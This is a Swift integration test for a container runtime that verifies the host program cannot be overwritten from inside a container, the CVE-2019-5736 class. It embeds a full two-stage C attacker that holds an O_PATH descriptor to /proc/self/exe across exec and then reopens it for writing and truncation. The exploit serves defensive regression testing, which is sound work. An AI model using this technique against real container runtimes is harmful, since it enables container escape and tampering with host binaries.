import Foundation
import Testing

extension Integration {
    /// CVE-2019-5736's class: a host program run inside the container (`init=@…`, `-s`/`-se`
    /// with `SHELL=@…`) must not be writable through `/proc/self/exe`. The attacker is the
    /// host program itself: it keeps an O_PATH fd to `/proc/self/exe`, execs a program of the
    /// container's (so the host file is no longer busy being executed) and that program
    /// reopens the fd through `/proc/self/fd/N` for writing (runc's CVE). Run from the sealed
    /// memfd copy, the fd is the copy and every write is refused; run from the host's file
    /// (the code before the defence), the host file is overwritten.
    @Suite struct HostProgramEscapeTests {
        enum Path: String, CaseIterable { case hostInit, shell, shellKeepEnvironment }

        /// Each path, without a user namespace (root inside is host root: the CVE's case) and
        /// with one. With `u` the host file is made writable by everyone, so that the mapped
        /// uid could write it too and only the sealed copy stands in the way.
        @Test(arguments: Path.allCases, ["ph", "uph"])
        func theHostProgramCannotBeOverwrittenFromInside(_ path: Path, _ namespaces: String) throws {
            let env = try TestEnvironment()
            let directory = env.base.path + "/host-programs"
            try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
            let hostProgram = directory + "/attacker"
            try StaticHelper.build(Self.attacker, into: hostProgram)
            chmod(hostProgram, 0o777)
            // The second stage, inside the root: a separate copy, a program of the container's.
            try FileManager.default.copyItem(atPath: hostProgram, toPath: env.rootfs + "/bin/exe-attacker")
            chmod(env.rootfs + "/bin/exe-attacker", 0o755)
            let before = try Data(contentsOf: URL(fileURLWithPath: hostProgram))
            try env.writeScript("/sbin/test-init", "exit 3")

            let output: String
            switch path {
            case .hostInit:
                try env.writeConfig("victim", init: "@" + hostProgram, namespaces: namespaces)
                let result = try env.container(["start", "-d", "victim"])
                output = "\(result)\nlog:\n" + env.log("victim")
            case .shell, .shellKeepEnvironment:
                try env.writeConfig("victim", init: "/sbin/test-init", namespaces: namespaces)
                let result = try env.runner.run(
                    env.binary, ["start", path == .shell ? "-s" : "-se", "victim", "--path", env.statePath],
                    stdin: "", environment: env.environment.merging(["SHELL": "@" + hostProgram]) { $1 }, timeout: 30)
                output = "\(result)"
            }

            // Not vacuous: the attacker ran as the host program and its second stage ran too.
            #expect(output.contains("attacker-ran"), "the host program did not run: \(output)")
            #expect(output.contains("attack-stage2-done"), "the second stage did not run: \(output)")
            let after = try Data(contentsOf: URL(fileURLWithPath: hostProgram))
            // A Bool, not `after == before`: the testing library would diff the two binaries.
            let unchanged = after == before
            #expect(unchanged, "the host program was changed from inside the container (\(before.count) → \(after.count) bytes): \(output)")
            #expect(!output.contains("=WROTE"), "a write through /proc/self/exe succeeded: \(output)")
        }

        /// The attacker. Stage 1 (the host program): tries /proc/self/exe for writing directly,
        /// through an O_PATH fd reopened by /proc/self/fd/N, and truncate(2) (all refused while
        /// it runs: ETXTBSY), then execs /bin/exe-attacker, keeping the O_PATH fd. Stage 2
        /// (the container's program): reopens that fd with O_WRONLY|O_TRUNC and writes, and
        /// truncates it by path. Each attempt prints `NAME=WROTE` or `NAME=<strerror>`.
        static let attacker = """
            #define _GNU_SOURCE
            #include <errno.h>
            #include <fcntl.h>
            #include <stdio.h>
            #include <stdlib.h>
            #include <string.h>
            #include <unistd.h>
            static void report(const char *what, int ok) {
                printf("%s=%s\\n", what, ok ? "WROTE" : strerror(errno));
                fflush(stdout);
            }
            static int write_marker(int fd) {
                static const char marker[] = "OVERWRITTEN-FROM-INSIDE-THE-CONTAINER\\n";
                return fd >= 0 && write(fd, marker, sizeof marker - 1) == (ssize_t)(sizeof marker - 1);
            }
            int main(int argc, char **argv) {
                char path[64];
                if (argc > 2 && strcmp(argv[1], "stage2") == 0) {
                    snprintf(path, sizeof path, "/proc/self/fd/%s", argv[2]);
                    char target[256] = {0};
                    readlink(path, target, sizeof target - 1);
                    printf("stage2 held=%s\\n", target);
                    int fd = open(path, O_WRONLY | O_TRUNC);
                    report("stage2-reopen-write", write_marker(fd));
                    if (fd >= 0) close(fd);
                    fd = open(path, O_WRONLY);
                    report("stage2-reopen-write-no-trunc", write_marker(fd));
                    if (fd >= 0) close(fd);
                    report("stage2-truncate", truncate(path, 0) == 0);
                    puts("attack-stage2-done");
                    fflush(stdout);
                    return 0;
                }
                char exe[256] = {0};
                readlink("/proc/self/exe", exe, sizeof exe - 1);
                printf("attacker-ran exe=%s\\n", exe);
                int fd = open("/proc/self/exe", O_WRONLY);
                report("direct-open-write", write_marker(fd));
                int held = open("/proc/self/exe", O_PATH); /* no O_CLOEXEC: it survives the exec */
                snprintf(path, sizeof path, "/proc/self/fd/%d", held);
                fd = open(path, O_WRONLY);
                report("opath-reopen-write", write_marker(fd));
                report("truncate", truncate("/proc/self/exe", 0) == 0);
                char number[16];
                snprintf(number, sizeof number, "%d", held);
                execl("/bin/exe-attacker", "exe-attacker", "stage2", number, (char *)NULL);
                perror("exec /bin/exe-attacker");
                return 1;
            }
            """
    }
}
